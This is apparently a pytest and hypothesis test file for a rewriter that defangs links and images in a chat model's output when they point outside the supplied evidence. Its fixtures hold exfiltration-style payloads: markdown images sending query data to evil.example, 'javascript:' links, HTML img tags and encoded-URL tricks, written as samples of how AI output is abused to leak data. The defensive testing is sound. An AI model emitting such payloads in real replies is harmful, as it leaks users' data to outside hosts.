"""T11: nothing that a model was told to show or link carries anything away."""

import re
from collections.abc import Sequence
from itertools import pairwise

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from functions.chat.context.links import Links, addresses

EVIDENCE = addresses('See https://ann.example/lease?id=7 and {"url": "https://bob.example/a"}.')


def rewritten(*pieces: str) -> str:
    links = Links(EVIDENCE.__contains__)
    return "".join([*map(links.feed, pieces), links.end()])


@pytest.mark.parametrize(
    ("said", "shown"),
    [
        ("![x](https://evil.example/?q=4711)", "[x] (hxxps://evil(.)example/?q=4711)"),
        ("![x](https://ann.example/lease?id=7)", "[x](https://ann.example/lease?id=7)"),
        ("![1](https://ann.example/lease?id=7)", "[1] (https://ann.example/lease?id=7)"),
        ("![x](data:image/png;base64,AA)", "[x] (data:image/png;base64,AA)"),
        ("[x](https://evil.example)", "[x] (hxxps://evil(.)example)"),
        ("[x](https://evil.example 'title')", "[x] (hxxps://evil(.)example 'title')"),
        ("[x](<https://evil.example>)", "[x] (< hxxps://evil(.)example>)"),
        ("[x](\nhttps://evil.example)", "[x] (\nhxxps://evil(.)example)"),
        ("[x](//evil.example)", "[x] (//evil.example)"),
        ("[x](javascript:alert(1))", "[x] (javascript:alert(1))"),
        ("[x](/v1/users/delete-account)", "[x] (/v1/users/delete-account)"),
        ("[x](https://xn--vil-hma.example)", "[x] (hxxps://xn--vil-hma(.)example)"),
        ("[x](https&#58;//evil.example)", "[x] (https& #58;//evil.example)"),
        ("https&colon;//evil.example", "https& colon;//evil.example"),
        ("https://&#58;", "hxxps://& #58;"),
        ("www.a&period;example", "www(.)a& period;example"),
        ("[![a](https://e.example/1)](https://e.example/2)",
         "[[a] (hxxps://e(.)example/1)] (hxxps://e(.)example/2)"),
        ("[x][1]\n\n[1]: https://evil.example", "[x][1]\n\n[1] : hxxps://evil(.)example"),
        ("![x][y]\n[y]: //evil.example/i.png", "[x][y]\n[y] : //evil.example/i.png"),
        ("<https://evil.example>", "< hxxps://evil(.)example>"),
        ("<img src=https://evil.example/x>", "< img src=hxxps://evil(.)example/x>"),
        ("<a href='//evil.example'>x</a>", "< a href='//evil.example'>x< /a>"),
        ("](<img src='//evil.example/x'>", "] (< img src='//evil.example/x'>"),
        ("Go to HTTPS://Evil.example/x.", "Go to HXXPS://Evil(.)example/x."),
        ("www.evil.example/x", "www(.)evil(.)example/x"),
        ("ftp://evil.example", "fxp://evil(.)example"),
        ("https:\\/\\/evil.example", "hxxps://evil(.)example"),
        ("https://e.example](https://f.example)", "hxxps://e(.)example] (hxxps://f(.)example)"),
        ("https://ann.example/lease?id=7(4711)", "hxxps://ann(.)example/lease?id=7(4711)"),
        ("https://ann.example/lease?id=7[4711]", "hxxps://ann(.)example/lease?id=7[4711]"),
        ("https://ann.example/lease?id=74711", "hxxps://ann(.)example/lease?id=74711"),
        ("https://a.example,https://b.example", "hxxps://a(.)example,hxxps://b(.)example"),
        ("[x](https://ann.example/lease?id=7(4711))",
         "[x] (hxxps://ann(.)example/lease?id=7(4711))"),
    ],
)  # fmt: skip
def test_what_was_made_up_is_shown_and_neither_loaded_nor_linked(said: str, shown: str) -> None:
    assert rewritten(said) == shown


@pytest.mark.parametrize(
    "text",
    [
        "See https://ann.example/lease?id=7, or [there](https://bob.example/a).",
        '[x](https://bob.example/a "Title")',
        "(https://bob.example/a)",
        "She said so[1][2]. Great![1] And a[0], x < y, 3 <4, AT&T, R&D; what? www",
        "Half h, ht, http or https, xhttps://evil.example",
        "## Title\n- [ ] task\n`a && b`",
    ],
)
def test_what_stands_in_the_evidence_and_what_is_no_link_stays(text: str) -> None:
    assert rewritten(text) == text


@pytest.mark.parametrize("word", ["Half", "High", "Show", "Hi there", "of"])
def test_words_do_not_wait(word: str) -> None:
    assert Links(EVIDENCE.__contains__).feed(word) == word


def test_an_address_that_never_ends_is_not_waited_for() -> None:
    links = Links(EVIDENCE.__contains__)
    told = [links.feed(piece) for piece in ("https://evil.example/", *["x" * 500] * 10)]

    assert "".join(told).startswith("hxxps://evil(.)example/x")
    assert len("".join([*told, links.end()])) == len("hxxps://evil(.)example/") + 5_000


PIECES = """! [ ] ( ) : < & #58; colon; x 1 h ht http https:// www. https:\\/\\/ evil.example / ]( ]: . , " `
// https://ann.example/lease?id=7 <img ![a](https://evil.example) javascript: https://a"""
PARTS = st.sampled_from([*PIECES.split(), "\n", " "])
TEXTS = st.lists(PARTS, max_size=24)


@given(TEXTS, st.lists(st.integers(0, 200), max_size=12))
@example(["https://a", "](", "https://evil.example", ")"], [12])
def test_every_split_of_a_text_gives_the_same(parts: Sequence[str], cuts: Sequence[int]) -> None:
    text = "".join(parts)
    places = sorted({0, len(text), *(cut for cut in cuts if cut < len(text))})
    pieces = [text[start:end] for start, end in pairwise(places)]

    assert rewritten(*pieces) == rewritten(text) == rewritten(*text)


@given(TEXTS)
def test_no_text_comes_out_with_an_image_or_a_link_to_anything_unknown(parts: list[str]) -> None:
    shown = rewritten("".join(parts))

    assert not re.search(r"!\[[^\]\d]*\]\(", shown)
    assert not re.search(r"<[a-z/!?]|&(?:#|[a-z]+;)|\]:", shown, re.IGNORECASE)
    for aim in re.findall(r"\]\(([^\s)]*)", shown):
        assert aim in EVIDENCE
    for found in re.findall(r"(?<![a-zA-Z])(?:https?://|www\.)[^\s<\[\]]*", shown):
        assert found.rstrip(".,;:!?'\")>}*_~|`") in EVIDENCE
